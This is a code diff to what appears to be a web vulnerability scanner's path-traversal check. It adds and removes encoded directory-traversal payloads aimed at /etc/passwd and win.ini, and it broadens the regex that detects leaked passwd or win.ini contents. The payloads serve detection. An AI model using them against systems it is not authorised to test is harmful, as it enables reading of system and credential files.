@@ -18,10 +18,11 @@ const payloads: readonly (string | RawPath)[] = [
   { raw: `${'..%c0%af'.repeat(10)}etc%c0%afpasswd` },
   `/var/www/html/${up}etc/passwd`,
   `${'..\\'.repeat(10)}windows\\win.ini`,
+  `${up}windows/win.ini`,
+  `${'..\\'.repeat(10)}etc\\passwd`,
   'C:\\Windows\\win.ini',
   'file:///C:/Windows/win.ini',
   `${'..%5c'.repeat(10)}windows%5cwin.ini`,
-  { raw: `${'..%255c'.repeat(10)}windows%255cwin.ini` },
   { raw: `${'..%c1%9c'.repeat(10)}windows%c1%9cwin.ini` },
 ];
 /** Payloads that depend on the value that the site itself puts there. */
@@ -34,7 +35,9 @@ function payloadsFor(value: string): readonly (string | RawPath)[] {
   return [...payloads, `${folder}${up}etc/passwd`, `${up}etc/passwd\0${extension}`];
 }
 
-const signature = /^[^\n]{0,40}root:[^:\n]{0,20}:0:0:[^\n]{0,80}|\[fonts\]\s{0,4}\n|; for 16-bit app support/m;
+/** An entry of the list of accounts, which begins its line or follows markup or a quote; or what every win.ini has. */
+const signature =
+  /(?:^|[>"'`=(])\s{0,9}root:[^:\n]{0,20}:0:0:[^\n<]{0,80}|\[fonts\]\s{0,4}\n|; for 16-bit app support/m;
 
 export const pathTraversal: PointCheck = {
   meta: {
@@ -67,7 +70,7 @@ async function tryPaths(point: InjectionPoint, probe: PointProbe): Promise<Outco
     const request = requestWith((path) => path);
     const response = await probe.fetch(request);
     if (response === undefined) return undefined;
-    const line = signature.exec(response.text)?.[0];
+    const line = signature.exec(response.text)?.[0].replace(/^[>"'`=(]/, '');
     if (line === undefined) continue;
     const control = await probe.fetch(requestWith((path) => path.replace(/passwd|win\.ini/, probe.token())));
     if (control === undefined || signature.test(control.text)) return undefined;
